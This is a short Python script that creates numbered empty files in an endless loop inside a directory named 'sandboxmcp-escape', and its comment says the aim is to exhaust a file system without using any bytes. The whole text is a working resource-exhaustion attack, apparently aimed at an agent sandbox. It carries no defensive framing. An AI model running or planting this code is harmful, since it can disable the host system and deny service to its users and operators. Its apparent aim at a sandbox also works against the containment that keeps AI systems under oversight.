# Makes empty files without end: they use no bytes and still exhaust a file system.
import itertools
import os

os.mkdir("/workspace/sandboxmcp-escape")
for i in itertools.count():
    os.close(os.open(f"/workspace/sandboxmcp-escape/{i}", os.O_CREAT | os.O_WRONLY))
